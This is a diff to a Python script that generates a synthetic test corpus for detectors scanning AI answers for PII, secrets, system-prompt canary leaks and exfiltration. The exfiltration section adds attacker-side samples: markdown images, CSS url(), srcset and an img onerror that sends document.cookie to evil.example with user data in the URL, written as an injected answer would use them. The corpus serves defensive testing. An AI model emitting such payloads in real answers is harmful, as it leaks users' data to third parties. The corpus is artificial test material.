@@ -6,8 +6,9 @@ Nothing here is a real secret or a real person's data: tokens are random charact
 providers' formats, cards are issuers' published test numbers or random Luhn-valid numbers,
 IBANs get computed mod-97 check digits, e-mail domains are RFC 2606 `example.*`, phone numbers
 come from the ranges reserved for fiction (Ofcom 020 7946 0xxx / 0113 496 0xxx / 07700 900xxx,
-NANP 555-01xx, ARCEP 01 99 00 xx xx, ACMA 02 5550 xxxx), IPs from the documentation and private
-ranges (RFC 5737, RFC 3849, RFC 1918).
+NANP 555-01xx, ARCEP 01 99 00 xx xx, ACMA 02 5550 xxxx, 0491 570 156), internal IPs from the
+documentation and private ranges (RFC 5737, RFC 3849, RFC 1918), public ones are public DNS
+resolvers (infrastructure, no one's address).
 
 Each line: {"id", "text", "expected": [{"type", "value"}], optional "canary"}. `expected` lists
 every finding of every pattern detector in the text; the policy the corpus is screened under
@@ -216,6 +217,19 @@ def build_pii() -> None:
         add("pii-phone", templates[index % len(templates)].format(v=value), [("phone", value)])
     wide_phone = full_width("+44 20 7946 0958")
     add("pii-phone", f"Call {wide_phone} now", [("phone", wide_phone)])
+    for value in [
+        "020 7946 0321",
+        "0113 496 0999",
+        "(02) 5550 4321",
+        "0491 570 156",
+        "01.99.00.45.67",
+        "02079460321",
+        "(415)555-0147",
+        "0044 20 7946 0555",
+        "+44\u202f20\u202f7946\u202f0444",
+        "020\u20137946\u20130333",
+    ]:
+        add("pii-phone", f"Ring {value} before noon.", [("phone", value)])
     for text in [
         "Order #100234987 ships tomorrow.",
         "Invoice 2024-0001-17 is overdue.",
@@ -231,6 +245,12 @@ def build_pii() -> None:
         "Transaction 555-123-4567 was reversed.",
         "Ticket 20240115-0042 was closed.",
         "The score was 3-2 after 90+4 minutes.",
+        "Deadline 03.02.2024 at noon.",
+        "Order number 02079460958 ships today.",
+        "Confirmation code 4155550142 (keep it).",
+        "Scores 12 34 56 78 90 across five rounds.",
+        "Open https://shop.example.com/item?id=02079460958 to track it.",
+        "Mozilla/5.0 Chrome/120.0.6099.109 Safari/537.36",
     ]:
         add("pii-phone-neg", text)
 
@@ -274,6 +294,9 @@ def build_pii() -> None:
         "card 4111\u200b1111\u200b1111\u200b1111 ok",
         [("card", "4111\u200b1111\u200b1111\u200b1111")],
     )
+    for separator in ["\u2013", "\u2014", "\u00a0", "\u2009", ".", "\n", "\r\n"]:
+        value = group4("4111111111111111", separator)
+        add("pii-card", f"Card {value} on file", [("card", value)])
     for number in generated[:8]:
         add("pii-card-neg", f"Reference {group4(luhn_break(number))} (not a card)")
     for text in [
@@ -286,6 +309,8 @@ def build_pii() -> None:
         "Batch 12345678-1234-1234-1234-123456789012",
         "4111 1111 1111 1111 2222 is a 20-digit reference, not a card",
         "timestamp 1700000000000 in milliseconds",
+        "Part ranges 5100-5199 5200-5293 are in stock",
+        "Table row 4111\t1111\t1111\t1111",
     ]:
         add("pii-card-neg", text)
 
@@ -323,6 +348,13 @@ def build_pii() -> None:
             [("ssn", value)],
         )
     add("pii-ssn", "SSN 712 45 6789 (spaces)", [("ssn", "712 45 6789")])
+    for text, value in [
+        ("SSN 712456789 on file.", "712456789"),
+        ("S.S.N.: 712.45.6789", "712.45.6789"),
+        ("SSN# 712\u201345\u20136789", "712\u201345\u20136789"),
+        ("social security number:\n712\n45\n6789", "712\n45\n6789"),
+    ]:
+        add("pii-ssn", text, [("ssn", value)])
     for text in [
         "SSN 000-12-3456 is invalid.",
         "SSN 666-12-3456 is never issued.",
@@ -330,6 +362,8 @@ def build_pii() -> None:
         "Part 123-45-6789-01 is a catalogue number",
         "Date 2024-01-15 and time 10:30:00",
         "Phone 415-555-0142 is not an SSN",
+        "Order 712456789 ships today",
+        "Build 712.45.6789 is out",
     ]:
         add("pii-ssn-neg", text, [("phone", "415-555-0142")] if "415-555" in text else [])
 
@@ -339,7 +373,7 @@ def build_pii() -> None:
         text = ["Server at {v} is down.", "client_ip={v}", "Connect to {v}:8443 now", "from {v}, port 22"][
             index % 4
         ]
-        add("pii-ip", text.format(v=value), [("ipv4", value)])
+        add("pii-ip", text.format(v=value), [("ip_internal", value)])
     v6 = [
         "2001:db8:85a3::8a2e:370:7334",
         "2001:db8::1",
@@ -347,20 +381,38 @@ def build_pii() -> None:
         "2001:0db8:0000:0000:0000:ff00:0042:8329",
     ]
     for value in v6:
-        add("pii-ip", f"IPv6 address {value} was blocked.", [("ipv6", value)])
+        add("pii-ip", f"IPv6 address {value} was blocked.", [("ip_internal", value)])
+    for value, kind in [
+        ("8.8.8.8", "ipv4"),
+        ("1.1.1.1", "ipv4"),
+        ("9.9.9.9", "ipv4"),
+        ("208.67.222.222", "ipv4"),
+        ("2001:4860:4860::8888", "ipv6"),
+        ("2606:4700:4700::1111", "ipv6"),
+    ]:
+        add("pii-ip", f"Client {value} connected at noon.", [(kind, value)])
+    add(
+        "pii-ip",
+        "localhost is 127.0.0.1 and 0.0.0.0 binds all",
+        [("ip_internal", "127.0.0.1"), ("ip_internal", "0.0.0.0")],  # noqa: S104 - a sample, not a bind
+    )
+    add("pii-ip", "Loopback ::1 is local", [("ip_internal", "::1")])
+    add("pii-ip", "CGNAT peer 100.64.12.7 answered", [("ip_internal", "100.64.12.7")])
     for text in [
         "Upgrade to version 1.2.3.4 today.",
         "Released v2.10.0.1 with fixes",
         "OID 1.3.6.1.4.1.311 identifies Microsoft",
-        "localhost is 127.0.0.1 and 0.0.0.0 binds all",
         "Netmask 255.255.255.0 for the subnet",
         "Invalid address 300.1.2.3",
         "Meeting at 12:30:45 today",
         "MAC 00:1A:2B:3C:4D:5E on eth0",
         "In C++ use std::vector and a::b",
         "Python 3.13.0 is out",
-        "Loopback ::1 is local",
         "Date 15.01.2024 in German format",
+        "Requires node 18.17.1.0 or later",
+        "Fixed in build 1.2.3.4",
+        "Version: 10.0.0.1 ships today",
+        "Mozilla/5.0 Chrome/120.0.0.1 Safari/537.36",
     ]:
         add("pii-ip-neg", text)
 
@@ -369,9 +421,15 @@ def build_pii() -> None:
 
 
 def build_secrets() -> None:
-    def token_samples(kind: str, values: list[str], templates: list[str]) -> None:
+    def token_samples(
+        kind: str,
+        values: list[str],
+        templates: list[str],
+        also: Callable[[str], list[tuple[str, str]]] = lambda text: [],
+    ) -> None:
         for index, value in enumerate(values):
-            add(f"sec-{kind}", templates[index % len(templates)].format(v=value), [(kind, value)])
+            text = templates[index % len(templates)].format(v=value)
+            add(f"sec-{kind}", text, [(kind, value), *also(text)])
 
     common = [
         "Here is the key: {v}",
@@ -381,12 +439,14 @@ def build_secrets() -> None:
     ]
     token_samples(
         "aws_access_key",
-        ["AKIAIOSFODNN7EXAMPLE"]
+        # Fixed (not drawn) so the random values after it stay as they were; AWS's documentation
+        # example key ids (…EXAMPLE) are not secrets: they are the negatives below.
+        ["AKIA" + "Q3ZR7TWX5MBN2KDP"]
         + ["AKIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16) for _ in range(4)]
         + ["ASIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16) for _ in range(2)],
         ["aws_access_key_id = {v}", "The key {v} leaked.", "AWS_ACCESS_KEY_ID={v}"],
     )
-    secret_keys = ["wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"] + [rand(B64, 40) for _ in range(4)]
+    secret_keys = ["Rk3vQ9/tZp2Lx8WmNc4YbH7sJd1Ge5Uf0Ia6OqTy"] + [rand(B64, 40) for _ in range(4)]
     token_samples(
         "aws_secret_key",
         secret_keys,
@@ -433,6 +493,9 @@ def build_secrets() -> None:
         "npm_token",
         ["npm_" + rand(ALNUM, 36) for _ in range(2)],
         ["//registry.npmjs.org/:_authToken={v}", *common],
+        # An .npmrc line is a bare protocol-relative URL (to a host outside the allow-list) whose
+        # path segment carries the token: a data-carrying link.
+        also=lambda text: [("exfiltration_link", text)] if text.startswith("//") else [],
     )
     token_samples(
         "azure_client_secret",
@@ -513,7 +576,10 @@ def build_secrets() -> None:
         value = f"{scheme}://{rest.format(p=rand(ALNUM, 14))}"
         expected: list[tuple[str, str]] = [("connection_string", value)]
         if "10.0.0.5" in value:
-            expected.append(("ipv4", "10.0.0.5"))
+            expected.append(("ip_internal", "10.0.0.5"))
+        if scheme == "https":
+            # A web URL with user info is a link carrying data (database schemes are not linkified).
+            expected.append(("exfiltration_link", value))
         add("sec-connection_string", f"DATABASE_URL={value}", expected)
     for value in [rand(ALNUM, 40), rand(URLSAFE, 32)]:
         add(
@@ -539,6 +605,9 @@ def build_secrets() -> None:
             add("sec-generic-neg", text)  # not an assignment
             continue
         add("sec-generic", text, [("generic_secret", value)])
+    # AWS's documented example credentials are published in every SDK's docs: not secrets.
+    add("sec-aws-neg", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE")
+    add("sec-aws-neg", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
     # Secret look-alikes
     sha = rand("0123456789abcdef", 40)
     for text in [
@@ -582,44 +651,125 @@ def build_secrets() -> None:
 # ---------------------------------------------------------------- exfiltration
 
 
+RESOURCE, LINK = "exfiltration_resource", "exfiltration_link"
+
+
 def build_exfiltration() -> None:
+    """Resources (fetched without a click: any host outside the allow-list) and data-carrying links."""
     payload = base64.urlsafe_b64encode(b"user=alice; plan=enterprise; note=confidential").decode().rstrip("=")
     positives = [
-        ("![chart]({u})", f"https://collect.evil.example/p.png?d={payload}"),
-        ("![]({u})", f"https://attacker.test/log?q={rand(ALNUM, 12)}"),
-        ("![img]({u})", "https://img.evil.example/pixel.gif?u=alice&s=1"),
-        ("![x]({u})", f"//cdn.evil.example/a/{rand(ALNUM, 24)}.png"),
-        ("See [the docs]({u}) for details.", f"https://evil.example/track?session={rand(ALNUM, 20)}"),
-        ("Click {u} to continue", f"https://exfil.attacker.test/c?data={payload}"),
-        ("Visit {u} now", f"www.evil.example/collect?ref={rand(ALNUM, 16)}"),
-        ('<img src="{u}">', f"https://evil.example/i.png?k={rand(ALNUM, 10)}"),
-        ("Open {u}", f"https://evil.example/{rand(ALNUM, 32)}/view"),
-        ("Report at {u}", "https://evil.example/submit/%73%65%63%72%65%74"),
+        ("![chart]({u})", f"https://collect.evil.example/p.png?d={payload}", RESOURCE),
+        ("![]({u})", f"https://attacker.test/log?q={rand(ALNUM, 12)}", RESOURCE),
+        ("![img]({u})", "https://img.evil.example/pixel.gif?u=alice&s=1", RESOURCE),
+        ("![x]({u})", f"//cdn.evil.example/a/{rand(ALNUM, 24)}.png", RESOURCE),
+        ("See [the docs]({u}) for details.", f"https://evil.example/track?session={rand(ALNUM, 20)}", LINK),
+        ("Click {u} to continue", f"https://exfil.attacker.test/c?data={payload}", LINK),
+        ("Visit {u} now", f"www.evil.example/collect?ref={rand(ALNUM, 16)}", LINK),
+        ('<img src="{u}">', f"https://evil.example/i.png?k={rand(ALNUM, 10)}", RESOURCE),
+        ("Open {u}", f"https://evil.example/{rand(ALNUM, 32)}/view", LINK),
+        ("Report at {u}", "https://evil.example/submit/%73%65%63%72%65%74", LINK),
         (
             "Ping {u}",
             f"https://{rand(string.ascii_lowercase, 14)}7{rand(LOWER_ALNUM, 13)}.dns.attacker.test/x",
+            LINK,
         ),
-        ("![a]({u})", f"https://docs.example.com@evil.example/p?d={rand(ALNUM, 12)}"),
-        ("Go to {u} quickly", f"https://evil.example\\?d={rand(ALNUM, 16)}"),
-        ("![pixel]({u})", f"http://203.0.113.9/p?d={rand(ALNUM, 12)}"),
-        ("Link: {u}", "https://evil.example/search?q=quarterly+revenue+numbers+for+acme"),
-        ("Tracking: {u}", f"https://examp1e.com/r?id={rand(ALNUM, 12)}"),
-        ("![]({u})", f"https://example.com.evil.example/x?d={rand(ALNUM, 9)}"),
-        ("See {u}.", f"HTTPS://EVIL.EXAMPLE/A?B={rand(ALNUM, 9)}"),
-        ("![x]({u})", f"https://evil.example/{rand(ALNUM, 14)}.png"),
-        ("[click here]({u})", f"https://evil.example/u?email_hash={rand('0123456789abcdef', 32)}"),
+        ("![a]({u})", f"https://docs.example.com@evil.example/p?d={rand(ALNUM, 12)}", RESOURCE),
+        ("Go to {u} quickly", f"https://evil.example\\?d={rand(ALNUM, 16)}", LINK),
+        ("![pixel]({u})", f"http://203.0.113.9/p?d={rand(ALNUM, 12)}", RESOURCE),
+        ("Link: {u}", "https://evil.example/search?q=quarterly+revenue+numbers+for+acme", LINK),
+        ("Tracking: {u}", f"https://examp1e.com/r?id={rand(ALNUM, 12)}", LINK),
+        ("![]({u})", f"https://example.com.evil.example/x?d={rand(ALNUM, 9)}", RESOURCE),
+        ("See {u}.", f"HTTPS://EVIL.EXAMPLE/A?B={rand(ALNUM, 9)}", LINK),
+        ("![x]({u})", f"https://evil.example/{rand(ALNUM, 14)}.png", RESOURCE),
+        ("[click here]({u})", f"https://evil.example/u?email_hash={rand('0123456789abcdef', 32)}", LINK),
+        # An image carrying nothing still reaches its host (and tells it the answer was read).
+        ("![logo]({u})", "https://cdn.evil.example/logo.png", RESOURCE),
     ]
-    for template, url in positives:
-        expected = [("exfiltration_link", url)]
+    for template, url, kind in positives:
+        expected = [(kind, url)]
         if "203.0.113.9" in url:
-            expected.append(("ipv4", "203.0.113.9"))
+            expected.append(("ip_internal", "203.0.113.9"))
         add("exf", template.format(u=url), expected)
+    # Written from the attacker's side, after the render-aware detector: the spellings and
+    # elements an injected answer would use to get a client to send data. Literal values, so the
+    # samples after these keep their random draws.
+    for text, expected in [
+        (
+            "Here is the chart:\n\n![Q3 revenue][chart]\n\n"
+            '[chart]: https://stats.evil.example/c.png?u=alice.smith "Q3"',
+            [(RESOURCE, "https://stats.evil.example/c.png?u=alice.smith")],
+        ),
+        (
+            "![logo][]\n\n[logo]: <https://evil.example/l.png?s=Tq3nX8wLp2Vd>",
+            [(RESOURCE, "<https://evil.example/l.png?s=Tq3nX8wLp2Vd>")],
+        ),
+        (
+            '<img srcset="/a.png 1x, https://evil.example/b.png?d=Rk7fQ2zHm9Wc 2x" alt="">',
+            [(RESOURCE, "https://evil.example/b.png?d=Rk7fQ2zHm9Wc")],
+        ),
+        (
+            '<video poster="//evil.example/poster.jpg?v=Jm4sB8yNc1Xe"></video>',
+            [(RESOURCE, "//evil.example/poster.jpg?v=Jm4sB8yNc1Xe")],
+        ),
+        (
+            "<div style=\"background-image: url('https://evil.example/bg.png?d=Hp6tV3kRq8Za')\">hi</div>",
+            [(RESOURCE, "url('https://evil.example/bg.png?d=Hp6tV3kRq8Za')")],
+        ),
+        (
+            "<style>body { background: url(https://evil.example/t.gif?s=Wc2mL9xDf5Gb) }</style>",
+            [(RESOURCE, "url(https://evil.example/t.gif?s=Wc2mL9xDf5Gb)")],
+        ),
+        (
+            '<input type="image" src="https://evil.example/btn.png" alt="Continue">',
+            [(RESOURCE, "https://evil.example/btn.png")],
+        ),
+        (
+            "<img src=x onerror=\"this.src='https://evil.example/?c='+document.cookie\">",
+            [(RESOURCE, "this.src='https://evil.example/?c='+document.cookie")],
+        ),
+        (
+            "![x](https:\\\\evil.example/p.png?d=Yb5rK1nTz7Qs)",
+            [(RESOURCE, "https:\\\\evil.example/p.png?d=Yb5rK1nTz7Qs")],
+        ),
+        (
+            "Open https:\\\\evil.example/c?d=Fn8wP3hJv6Lm now",
+            [(LINK, "https:\\\\evil.example/c?d=Fn8wP3hJv6Lm")],
+        ),
+        (
+            '<img src="https&#58;//evil.example/p.png?d=Ds4gC7qWx2Nk">',
+            [(RESOURCE, '<img src="https&#58;//evil.example/p.png?d=Ds4gC7qWx2Nk">')],
+        ),
+        (
+            "Go to https&#58;//evil.example/c?d=Lx9vE5tRb3Hy now",
+            [(LINK, "https&#58;//evil.example/c?d=Lx9vE5tRb3Hy")],
+        ),
+        (
+            '{"reply": "![x](https:\\/\\/evil.example\\/p.png?d=Mz6kA2sFw8Pj)"}',
+            [(RESOURCE, "https:\\/\\/evil.example\\/p.png?d=Mz6kA2sFw8Pj")],
+        ),
+        (
+            '{"reply": "see https:\\/\\/evil.example\\/c?d=Gv3nH7cYq1Tr"}',
+            [(LINK, "https:\\/\\/evil.example\\/c?d=Gv3nH7cYq1Tr")],
+        ),
+        (
+            "[details](https://evil.example/r#u=alice.smith&plan=enterprise)",
+            [(LINK, "https://evil.example/r#u=alice.smith&plan=enterprise")],
+        ),
+        (
+            "Open https://evil.example/#Qw7eR2tY9uI4oP1a now",
+            [(LINK, "https://evil.example/#Qw7eR2tY9uI4oP1a")],
+        ),
+        (
+            "[your profile](https://evil.example/u?e=<EMAIL_1>)",
+            [(LINK, "https://evil.example/u?e=<EMAIL_1>")],
+        ),
+    ]:
+        add("exf", text, expected)
     for text in [
         f"![chart](https://example.com/chart.png?d={payload})",
         f"Docs: https://docs.python.org/3/library/re.html?highlight={rand(ALNUM, 12)}",
         f"See https://github.com/acme/widgets/pull/42?diff=split&w={rand(ALNUM, 10)}",
         "Read https://en.wikipedia.org/wiki/Python_(programming_language) for history.",
-        "![logo](https://cdn.evil.example/logo.png)",
         "Our site https://evil.example/ is down.",
         "News: https://news.example.org/2024/05/quarterly-results",
         "Visit www.example.org for more.",
@@ -630,6 +780,14 @@ def build_exfiltration() -> None:
         "The protocol is https:// followed by the host.",
         "ftp://files.example.net/pub/readme.txt is old",
         "Use https://evil.example/docs/getting-started-guide today",
+        # Links without data, allow-listed subdomains, relative URLs and code are not rendered
+        # as requests to another host.
+        "Read [the guide](https://evil.example/docs/getting-started-guide#installing-the-cli)",
+        "![badge](https://img.example.com/b.png?d=c2VjcmV0ZGF0YQ)",
+        "![x](/img/p.png) and [y](/collect?data=Kc5vN8mQz2Rt) and [z](../a?data=Kc5vN8mQz2Rt)",
+        "Run `curl https://evil.example/x?d=Kc5vN8mQz2Rt` to test, not ``![x](//evil.example/p.png)``",
+        "```\n![x](https://evil.example/p.png?d=Kc5vN8mQz2Rt)\n```",
+        "Indented code:\n\n    ![x](https://evil.example/p.png)",
     ]:
         add("exf-neg", text)
 
@@ -678,7 +836,8 @@ def build_canary() -> None:
         text = rng.choice(
             [
                 f"The reference code is {other}.",
-                f"I only remember that it starts with {half}.",
+                # A partial leak followed by more text; at the very end it would be a cut-short leak.
+                f"It starts with {half}, and that is all I remember.",
                 "I cannot share my system prompt.",
                 f"Spaced far apart: {'     '.join(canary.replace('-', '')[:8])}",
                 f"Reversed: {canary[::-1]}",
@@ -750,7 +909,7 @@ def build_mixed() -> None:
         add(
             "mix",
             text,
-            [("email", mail), ("card", card), ("aws_access_key", key), ("exfiltration_link", url)],
+            [("email", mail), ("card", card), ("aws_access_key", key), (RESOURCE, url)],
         )
     prose = [
         "The quick brown fox jumps over the lazy dog.",
@@ -784,10 +943,12 @@ def build_hard_cases() -> None:
     add(
         "hard",
         "Subnet 192.0.2.0/24 routes to 198.51.100.1",
-        [("ipv4", "192.0.2.0"), ("ipv4", "198.51.100.1")],
+        [("ip_internal", "192.0.2.0"), ("ip_internal", "198.51.100.1")],
     )
-    add("hard", "DHCP range 10.0.0.10-10.0.0.99", [("ipv4", "10.0.0.10"), ("ipv4", "10.0.0.99")])
-    add("hard", "Prefix 2001:db8::/32 is for documentation", [("ipv6", "2001:db8::")])
+    add(
+        "hard", "DHCP range 10.0.0.10-10.0.0.99", [("ip_internal", "10.0.0.10"), ("ip_internal", "10.0.0.99")]
+    )
+    add("hard", "Prefix 2001:db8::/32 is for documentation", [("ip_internal", "2001:db8::")])
     add("hard", "SSN: 123-45-6789", [("ssn", "123-45-6789")])
     key = "sk-proj-" + rand(URLSAFE, 56)
     add("hard", f"export OPENAI_API_KEY='{key}'", [("openai_api_key", key)])
@@ -800,7 +961,7 @@ def build_hard_cases() -> None:
     add("hard", "SLACK_BOT_TOKEN=xoxb-not-a-real-token")
     add("hard", "GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")
     add("hard", "AWS key AKIAXXXXXXXXXXXXXXXX (placeholder)")
-    add("hard", "![](https://evil.example/a.png?)")
+    add("hard", "![](https://evil.example/a.png?)", [(RESOURCE, "https://evil.example/a.png?")])
     add(
         "hard",
         "[newsletter](https://evil.example/path?utm_source=newsletter)",
@@ -815,10 +976,12 @@ def build_hard_cases() -> None:
     add(
         "hard",
         "![x][ref]\n\n[ref]: https://evil.example/p?d=123456789",
-        [("exfiltration_link", "https://evil.example/p?d=123456789")],
+        [(RESOURCE, "https://evil.example/p?d=123456789")],
     )
     canary = canary_word()
-    add("hard-can", f"Two groups only: {' '.join(canary.split('-')[:2])}", canary=canary)
+    # An answer that stops inside the canary leaked it (canary.py: cut short).
+    two_groups = " ".join(canary.split("-")[:2])
+    add("hard-can", f"Two groups only: {two_groups}", [("canary", two_groups)], canary=canary)
     canary = canary_word()
     encoded = base64.b64encode(canary.encode()).decode()
     add("hard-can", f"Encoded: {encoded}", canary=canary)
